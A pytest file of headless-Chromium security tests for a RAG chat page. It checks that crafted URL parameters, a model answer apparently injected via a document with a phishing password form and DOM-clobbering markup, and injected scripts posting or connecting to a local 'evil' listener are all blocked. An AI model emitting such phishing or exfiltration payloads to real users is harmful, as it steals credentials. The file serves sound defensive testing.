"""The chat page against hostile input, in headless Chromium on the real local server: a crafted
link, a model steered by a document into writing a form, and injected markup that tries to post or
connect elsewhere. Where a test says so, the server's CSP is bypassed so the page's own defence is
what is tested."""

import shutil
import time

import pytest

from ragchat.bootstrap import build_core, build_local_server
from ragchat.config import Settings
from tests.fakes import FakeHashingEmbedder, ScriptedGenerator
from tests.support.listener import listening
from tests.support.servers import running

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed (apt-get install chromium)")
QUESTION = "How often does the staging password rotate?"


def phishing_answer(evil: str) -> str:
    return (f'It rotates every 17 days [1]. <form action="{evil}/steal" method="post"><p>Your session expired.</p>'
            '<input name="password" type="password"><select name="x"><option>a</option></select>'
            '<button type="submit">Sign in again</button></form><textarea id="question">injected</textarea>'
            '<style>#composer { display: none }</style><p style="position:fixed;top:0">overlay</p>'
            '<img name="getElementById" src="data:,"><a id="settings-save" href="#">x</a>')


@pytest.fixture
def browser_page(tmp_path):
    """open(csp=..., generator=...) -> (page, address): the page on a fresh local server."""
    playwright_api = pytest.importorskip("playwright.sync_api")
    with playwright_api.sync_playwright() as playwright, pytest.MonkeyPatch.context():
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=[
            "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
            "--disable-component-update", "--disable-sync", "--no-first-run"])
        servers = []

        def open_page(bypass_csp: bool, generator=None, path="/"):
            drop = tmp_path / f"drop{len(servers)}"
            drop.mkdir()
            (drop / "runbook.md").write_text("# Staging\n\nThe staging password rotates every 17 days.\n")
            settings = Settings(data_dir=tmp_path / f"data{len(servers)}")
            local = build_local_server(settings, watch=drop, generator=generator or ScriptedGenerator(),
                                       core=build_core(settings, embedder=FakeHashingEmbedder()))
            local.watcher.sync()
            server = running(local.app)
            address = server.__enter__()
            servers.append(server)
            page = browser.new_context(bypass_csp=bypass_csp).new_page()
            page.goto(f"http://{address}{path}")
            return page, address

        yield open_page
        browser.close()
        for server in servers:
            server.__exit__(None, None, None)


def test_page_takes_no_endpoint_or_token_from_its_own_url(browser_page):
    with listening() as evil:
        page, address = browser_page(bypass_csp=True)  # the page's own rule, not the CSP, is tested
        page.wait_for_selector("#status[data-state=open]", timeout=15000)
        page.evaluate("localStorage.setItem('ragchat.token', 'saved-id-token')")
        ws, api = f"ws://127.0.0.1:{evil.port}/ws", evil.origin
        page.goto(f"http://{address}/?ws={ws}&api={api}")
        opened = page.locator("#status[data-state=open]")
        deadline = time.monotonic() + 10
        while not evil.received and opened.count() == 0 and time.monotonic() < deadline:
            time.sleep(0.1)
        assert evil.received == []  # before: b"GET /ws?token=saved-id-token HTTP/1.1 ..."
        assert opened.count() == 1  # connected to its own server
        page.locator("#upload").set_input_files(files=[{"name": "n.md", "mimeType": "text/markdown",
                                                         "buffer": b"# N\n\nNote.\n"}])
        page.wait_for_function("document.getElementById('notice').textContent.includes('n.md')", timeout=15000)
        time.sleep(0.5)
        page.goto(f"http://{address}/?token=from-the-link")
        assert page.evaluate("settings().token") == "saved-id-token"
    assert evil.received == []


def test_page_answer_cannot_render_a_form_controls_styles_or_clobbering_names(browser_page):
    with listening() as evil:
        page, _ = browser_page(bypass_csp=True, generator=ScriptedGenerator([phishing_answer(evil.origin)]))
        page.wait_for_selector("#status[data-state=open]", timeout=15000)
        page.fill("#question", QUESTION)
        page.click("#send")
        body = page.locator(".message.assistant .body").last
        page.wait_for_function("!document.getElementById('send').disabled", timeout=15000)
        assert "17 days" in body.inner_text()
        for tag in ("form", "input", "select", "button", "textarea", "style", "[style]", "[id=question]",
                    "[name=getElementById]", "[id=settings-save]"):
            assert body.locator(tag).count() == 0, tag
        assert page.evaluate("document.getElementById('question').closest('#composer') !== null")
        page.fill("#question", "what I really typed")
        page.click("#send")
        page.wait_for_function("document.querySelectorAll('.message.user').length === 2", timeout=15000)
        assert page.locator(".message.user").last.inner_text() == "what I really typed"
    assert evil.received == []


def test_page_csp_blocks_a_form_post_and_connections_to_other_servers(browser_page):
    with listening() as evil:
        page, address = browser_page(bypass_csp=False)  # the server's real policy
        page.wait_for_selector("#status[data-state=open]", timeout=15000)  # its own WebSocket is allowed
        page.evaluate("""(evil) => {
            try { new WebSocket(evil.replace('http:', 'ws:') + '/ws'); } catch (e) {}
            fetch(evil + '/api').catch(() => {});
            const form = document.createElement('form');
            form.action = evil + '/steal'; form.method = 'post';
            document.body.appendChild(form);
            form.submit();
        }""", evil.origin)
        time.sleep(1.5)
        assert page.url.startswith(f"http://{address}/")
    assert not any(evil.received)  # Chromium may open a speculative TCP connection; not one byte is sent
